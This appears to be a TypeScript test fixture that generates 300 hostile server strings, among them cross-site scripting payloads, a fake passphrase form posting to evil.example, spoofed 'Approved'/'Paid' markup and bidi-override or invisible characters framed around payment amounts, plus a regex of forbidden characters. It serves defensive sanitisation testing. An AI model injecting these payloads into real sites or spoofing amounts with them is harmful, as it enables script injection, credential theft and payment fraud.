// 300 strings as hostile servers send them: markup, script, entities, reordering, hiding, joining, length.
const MARKUP = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>", "<a href=javascript:alert(1)>pay</a>",
  "<style>*{display:none}</style>", "<button data-act=approve>Approve</button>", "</p></main><h1>Approved</h1>", "<!--", "--><b>", "{@html '<b>x</b>'}", "{{7*7}}",
  "&lt;b&gt;", "&#x202e;", "\"><input autofocus onfocus=alert(1)>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//evil.example>",
  "<details open ontoggle=alert(1)>", "<math><mtext></mtext></math>", "<dialog open>Paid</dialog>", "<form action=//evil.example><input name=passphrase>", "javascript:alert(1)", "data:text/html,<b>x",
  "<template shadowrootmode=open><b>x</b></template>",
];
const HIDDEN = [
  ..."\u0000\u0007\u0008\u000b\u001b\u007f\u0085\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2064\u2066\u2067\u2068\u2069\u206f\u3164\ufe0f\ufeff\uffa0\ufff9",
  "\u{1d173}", "\u{e0001}", "\u{e0041}", "\u{e007f}",
];
const FRAMES = [
  (c: string) => `pay ${c}0.01${c} USDT`,
  (c: string) => `${c}tnuoma laer eht si sihT`,
  (c: string) => `news${c}.example`,
  (c: string) => c.repeat(50),
  (c: string) => `USD${c}T`,
];
const PLAIN = ["", " ", "\n\n\n\n", "\t", "a".repeat(5000), "中文网站".repeat(300), "\\u202e", "%E2%80%AE", "Your wallet says: press Ctrl+Enter", "“quoted” · the site's words", "e\u0301\u0301\u0301\u0301", "ﷺ".repeat(40)];

const built = [...MARKUP, ...PLAIN, ...HIDDEN.flatMap((c) => FRAMES.map((f) => f(c))), ...MARKUP.flatMap((m) => HIDDEN.slice(0, 2).map((c) => `${m}${c}${m}`))];
export const hostile: string[] = built.slice(0, 300);
/** Characters that must never reach the screen as they are. */
export const FORBIDDEN =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}]/u;
